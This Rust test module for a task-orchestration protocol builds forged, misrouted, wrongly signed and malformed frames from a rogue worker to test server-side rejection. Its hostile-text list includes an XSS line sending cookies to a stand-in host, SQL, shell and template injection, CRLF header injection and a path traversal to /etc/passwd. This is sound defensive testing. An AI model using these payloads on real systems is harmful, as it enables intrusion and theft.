//! What a rogue agent says: every kind of frame, in every wrong way there is a word for.

use crate::{agent::Agent, world::step as task_step};
use base64::{Engine as _, engine::general_purpose::STANDARD};
use nkeys::KeyPair;
use serde_json::{Value, json};
use windlass_contracts::{
    frames::{self, Hello, LogFrame, MAX_FRAME, MAX_LOG_DATA, OpenState, OpenTask, RefuseCode, Stream, Up, UpBody},
    subjects,
};
use windlass_domain::{
    ids::{AgentId, TaskId},
    task::{ReportedOutcome, StepOutcome, StepReport, TaskReport},
};

/// One attack: what it is, and what is published where.
#[derive(Debug)]
pub(crate) struct Attack {
    pub(crate) name: String,
    pub(crate) subject: String,
    pub(crate) bytes: Vec<u8>,
}

pub(crate) const OUTCOMES: [ReportedOutcome; 5] = [
    ReportedOutcome::Succeeded,
    ReportedOutcome::Failed,
    ReportedOutcome::Cancelled,
    ReportedOutcome::Fenced,
    ReportedOutcome::Interrupted,
];
const CODES: [RefuseCode; 6] = [
    RefuseCode::Busy,
    RefuseCode::Stale,
    RefuseCode::Unproven,
    RefuseCode::Policy,
    RefuseCode::Invalid,
    RefuseCode::NoResources,
];
/// Texts that have hurt others: terminals, browsers, shells, databases, templates.
pub(crate) const TEXTS: [&str; 12] = [
    "\u{1b}]0;owned\u{7}\u{1b}[2J",
    "<script>fetch('//x/'+document.cookie)</script>",
    "\" onmouseover=alert(1) x=\"",
    "'; DROP TABLE tasks; --",
    "$(touch /tmp/owned)`id`",
    "${{ secrets.token }}",
    "\u{FDD0}s:token\u{FDD1}",
    "nul\0nul",
    "\u{202e}txt.exe",
    "../../../../etc/passwd",
    "{{ 7*7 }}{% raw %}",
    "\r\nSet-Cookie: a=b\r\n\r\n",
];

/// What the rogue says its journal has come to; less would be a restored disk.
pub(crate) const SEQ: u64 = 1 << 21;

pub(crate) fn step(index: u32) -> StepReport {
    let at = chrono::Utc::now();
    StepReport {
        outputs: Default::default(),
        index,
        outcome: StepOutcome::Succeeded,
        exit_code: Some(0),
        started_at: at,
        ended_at: at,
        message: String::new(),
        left_processes: 0,
    }
}

pub(crate) fn result(task: TaskId, outcome: ReportedOutcome, steps: Vec<StepReport>) -> UpBody {
    UpBody::Result { task, report: TaskReport { outcome, steps, log_bytes: 0, log_dropped: 0, log_frames: 0 } }
}

pub(crate) fn log(task: TaskId, seq: u64, data: &[u8]) -> LogFrame {
    LogFrame {
        task,
        seq,
        step: 0,
        stream: Stream::Out,
        at: chrono::Utc::now(),
        data: STANDARD.encode(data),
        crc: crc32c::crc32c(data),
    }
}

pub(crate) fn hello(open: Vec<OpenTask>, facts: Value) -> UpBody {
    UpBody::Hello(Hello { boot_id: "boot".into(), journal_seq: SEQ, version: "0".into(), open, facts, answers: None })
}

/// Every kind of frame, about this task.
fn all_about(task: TaskId) -> Vec<(String, UpBody)> {
    let mut out: Vec<(String, UpBody)> = vec![
        ("ACCEPT".into(), UpBody::Accept { task, nonce: "a".repeat(32), journal_seq: 1, seal_to: None }),
        ("STARTED".into(), UpBody::Started { task }),
        ("STEP".into(), UpBody::Step { task, report: step(0) }),
        ("LOG".into(), UpBody::Log(log(task, 0, b"forged\n"))),
        ("LOGS".into(), UpBody::Logs { frames: vec![log(task, 0, b"forged\n"), log(task, 1, b"forged\n")] }),
    ];
    out.extend(OUTCOMES.map(|o| (format!("RESULT {o:?}"), result(task, o, vec![]))));
    out.extend(CODES.map(|code| (format!("REFUSE {code:?}"), UpBody::Refuse { task, code, detail: TEXTS[0].into() })));
    out
}

fn subject_of(agent: AgentId, body: &UpBody) -> String {
    match body {
        UpBody::Hello(_) | UpBody::Heartbeat { .. } => subjects::agent_hello(agent),
        UpBody::Log(_) | UpBody::Logs { .. } => subjects::agent_log(agent),
        _ => subjects::agent_up(agent),
    }
}

/// Makes attacks of one rogue agent.
pub(crate) struct Rogue<'a> {
    pub(crate) me: &'a Agent,
    /// Its true journal instance.
    pub(crate) instance: String,
}

impl Rogue<'_> {
    pub(crate) fn signed(&self, agent: AgentId, instance: &str, body: UpBody, key: &KeyPair) -> Vec<u8> {
        // What is too large for `seal` is signed by hand: an attacker does not ask.
        let up = Up { agent, instance: instance.into(), body };
        raw(&serde_json::to_vec(&up).expect("json"), key)
    }

    pub(crate) fn mine(&self, name: impl Into<String>, body: UpBody) -> Attack {
        let subject = subject_of(self.me.id, &body);
        let bytes = self.signed(self.me.id, &self.instance, body, &self.me.key);
        Attack { name: name.into(), subject, bytes }
    }

    /// About a task of `other`: in its own name, in the other's name, on the other's subject, with another's key.
    pub(crate) fn others_task(&self, other: &Agent, task: TaskId) -> Vec<Attack> {
        let (me, stranger) = (self.me, KeyPair::new_user());
        let their_instance = other.lock().instance.clone();
        let mut out = Vec::new();
        for (kind, body) in all_about(task) {
            let own = subject_of(me.id, &body);
            let theirs = subject_of(other.id, &body);
            let mut add = |how: &str, subject: &str, agent, instance: &str, key: &KeyPair| {
                let bytes = self.signed(agent, instance, body.clone(), key);
                out.push(Attack { name: format!("{kind}: {how}"), subject: subject.into(), bytes });
            };
            add("of another's task, in its own name", &own, me.id, &self.instance, &me.key);
            add("of another's task, with the other's instance", &own, me.id, &their_instance, &me.key);
            add("in another's name, on its own subject", &own, other.id, &their_instance, &me.key);
            add("in another's name, on the other's subject", &theirs, other.id, &their_instance, &me.key);
            add("in its own name, on the other's subject", &theirs, me.id, &self.instance, &me.key);
            add("in another's name, with a made-up key", &theirs, other.id, &their_instance, &stranger);
            add("in its own name, with a made-up key", &own, me.id, &self.instance, &stranger);
            for wrong in [subjects::agent_hello(me.id), subjects::agent_log(me.id), subjects::agent_up(me.id)] {
                if wrong != own {
                    add("on a subject for other frames", &wrong, me.id, &self.instance, &me.key);
                }
            }
            add("on a subject that names nobody", "up.nobody.msg", me.id, &self.instance, &me.key);
        }
        out
    }

    /// About a task that nobody ever granted.
    pub(crate) fn no_task(&self) -> Vec<Attack> {
        let task: TaskId = uuid::Uuid::now_v7().into();
        all_about(task).into_iter().map(|(kind, body)| self.mine(format!("{kind}: of no task"), body)).collect()
    }

    /// About its own task, beyond all shape: nothing of it may be taken.
    pub(crate) fn own_task_misshapen(&self, task: TaskId) -> Vec<Attack> {
        let mut out = Vec::new();
        for nonce in
            ["", "short", &"a".repeat(129), "aaaaaaaaaaaaaaaa\n", "'; drop table tasks --", "a b c d e f g h i j"]
        {
            let body = UpBody::Accept { task, nonce: nonce.into(), journal_seq: 1, seal_to: None };
            out.push(self.mine(format!("ACCEPT with the nonce {nonce:?}"), body));
        }
        for key in ["", "X", "not a key", "UAAAAAAA", &"X".repeat(56), &KeyPair::new_user().public_key()] {
            let body = UpBody::Accept { task, nonce: "b".repeat(32), journal_seq: 1, seal_to: Some(key.to_owned()) };
            out.push(self.mine(format!("ACCEPT with secrets sealed to {key:?}"), body));
        }
        for index in [2, 3, 999, 1000, u32::MAX] {
            out.push(self.mine(format!("STEP {index}"), UpBody::Step { task, report: step(index) }));
            for outcome in OUTCOMES {
                let body = result(task, outcome, vec![step(0), step(index)]);
                out.push(self.mine(format!("RESULT {outcome:?} with step {index}"), body));
            }
        }
        let twice = |n: u32| (0..n).map(|_| step(0)).collect();
        out.push(self.mine("RESULT with a step twice", result(task, ReportedOutcome::Succeeded, twice(2))));
        out.push(self.mine("RESULT with 1001 steps", result(task, ReportedOutcome::Succeeded, twice(1001))));
        let mut long = step(0);
        long.outputs.insert("k".into(), "x".repeat(200 * 1024).into());
        out.push(self.mine("STEP with outputs too large", UpBody::Step { task, report: long.clone() }));
        out.push(self.mine("RESULT with outputs too large", result(task, ReportedOutcome::Succeeded, vec![long])));
        for (name, data, crc) in [
            ("no base64", "***".to_owned(), 0),
            ("another checksum", STANDARD.encode("a"), 1),
            ("more than may be in one", STANDARD.encode(vec![b'x'; MAX_LOG_DATA + 1]), 0),
            ("far more than may be in one", STANDARD.encode(vec![b'x'; 500_000]), 0),
        ] {
            let body = UpBody::Log(LogFrame { data, crc, ..log(task, 0, b"") });
            out.push(self.mine(format!("LOG: {name}"), body));
        }
        for seq in [1, 2, 1000, u64::MAX] {
            out.push(self.mine(format!("LOG out of order: {seq}"), UpBody::Log(log(task, seq, b"later"))));
        }
        let body = UpBody::Log(LogFrame { step: 5000, ..log(task, 0, b"x") });
        out.push(self.mine("LOG of step 5000", body));
        out
    }

    /// No frames at all, or frames whose body is none although the signature is right.
    pub(crate) fn no_frames(&self, task: TaskId) -> Vec<Attack> {
        let (id, mut out) = (self.me.id, Vec::new());
        let all = [subjects::agent_up(id), subjects::agent_hello(id), subjects::agent_log(id)];
        let good = self.signed(id, &self.instance, result(task, ReportedOutcome::Succeeded, vec![]), &self.me.key);
        let mut bytes: Vec<(String, Vec<u8>)> = vec![
            ("empty".into(), vec![]),
            ("the magic alone".into(), b"WF1".to_vec()),
            ("100 KB of zeros".into(), vec![0; 100_000]),
            ("one byte more than a frame may have".into(), vec![b'W'; MAX_FRAME + 1]),
            ("twice".into(), [good.clone(), good.clone()].concat()),
        ];
        for cut in [4, 66, 67, 68, good.len() / 2, good.len() - 1] {
            bytes.push((format!("cut to {cut} bytes"), good[..cut].to_vec()));
        }
        for at in [0, 2, 3, 40, 66, 67, 90, good.len() - 2] {
            let mut flipped = good.clone();
            flipped[at] ^= 0x20;
            bytes.push((format!("byte {at} changed"), flipped));
        }
        let deep = |n: usize| [b"[".repeat(n), b"]".repeat(n)].concat();
        let up = json!({ "agent": id, "instance": self.instance, "body": { "t": "started", "task": task } });
        let mut other =
            |name: &str, value: Value| bytes.push((name.into(), raw(value.to_string().as_bytes(), &self.me.key)));
        other("a number", json!(7));
        other("a list", json!([up]));
        other("no body", json!({ "agent": id, "instance": self.instance }));
        other("an unknown kind", json!({ "agent": id, "instance": self.instance, "body": { "t": "shutdown" } }));
        other("a frame meant for agents", json!({ "aud": id, "instance": null, "body": { "t": "who_are_you" } }));
        other("a task that is no id", json!({ "agent": id, "instance": "i", "body": { "t": "started", "task": "x" } }));
        other(
            "an instance that is no text",
            json!({ "agent": id, "instance": 1, "body": { "t": "started", "task": task } }),
        );
        bytes.push(("nested 200,000 deep".into(), raw(&deep(200_000), &self.me.key)));
        bytes.push(("no UTF-8".into(), raw(b"{\"agent\":\"\xff\xfe\"}", &self.me.key)));
        bytes.push((
            "a number without end".into(),
            raw(&[b"1".repeat(10_000), b"e99999".to_vec()].concat(), &self.me.key),
        ));
        for (name, bytes) in bytes {
            for subject in &all {
                out.push(Attack { name: format!("bytes: {name}"), subject: subject.clone(), bytes: bytes.clone() });
            }
        }
        out
    }

    /// HELLOs and heartbeats of its own with hostile content: taken, but to measure.
    pub(crate) fn greetings(&self, others: &[TaskId]) -> Vec<Attack> {
        let open = |task: TaskId, state| OpenTask { task, state };
        let mut out = Vec::new();
        let states = [OpenState::Accepted, OpenState::Running, OpenState::Ended];
        for (task, state) in others.iter().flat_map(|t| states.map(|s| (*t, s))) {
            out.push(self.mine(
                format!("HELLO that lists another's task as {state:?}"),
                hello(vec![open(task, state)], json!({})),
            ));
        }
        for (i, text) in TEXTS.iter().enumerate() {
            let facts =
                json!({ "hostname": text, (*text): text, "current_release": text, "_replaced": ["x"], "_asked": text });
            out.push(self.mine(format!("HELLO with hostile facts {i}"), hello(vec![], facts)));
            let beat = UpBody::Heartbeat { journal_seq: 0, running: others.to_vec(), current: Some((*text).into()) };
            out.push(self.mine(format!("heartbeat with a hostile release {i}"), beat));
        }
        for facts in [json!(null), json!([]), json!("x"), json!(1e308), json!({ "a": "z".repeat(500_000) })] {
            out.push(self.mine("HELLO with facts that are none", hello(vec![], facts)));
        }
        let made_up = |n: usize| (0..n).map(|_| open(uuid::Uuid::now_v7().into(), OpenState::Running)).collect();
        out.push(self.mine("HELLO with 40 tasks nobody granted", hello(made_up(40), json!({}))));
        out.push(self.mine("HELLO with 6000 tasks nobody granted", hello(made_up(6000), json!({}))));
        let beat = UpBody::Heartbeat { journal_seq: 0, running: vec![], current: Some("r".repeat(800_000)) };
        out.push(self.mine("heartbeat with a release of 800 KB", beat));
        out
    }
}

/// A signed body, whatever it is.
pub(crate) fn raw(body: &[u8], key: &KeyPair) -> Vec<u8> {
    [b"WF1".to_vec(), key.sign(body).expect("signs"), body.to_vec()].concat()
}

/// The form above is the one the product makes.
#[test]
fn frames_made_by_hand_are_frames() {
    let key = KeyPair::new_user();
    let up = Up { agent: uuid::Uuid::nil().into(), instance: "i".into(), body: hello(vec![], json!({})) };
    let made = raw(&serde_json::to_vec(&up).expect("json"), &key);
    assert_eq!(made, frames::seal(&up, &key).expect("seals"));
    assert_eq!(task_step("s", "true").id, "s");
}
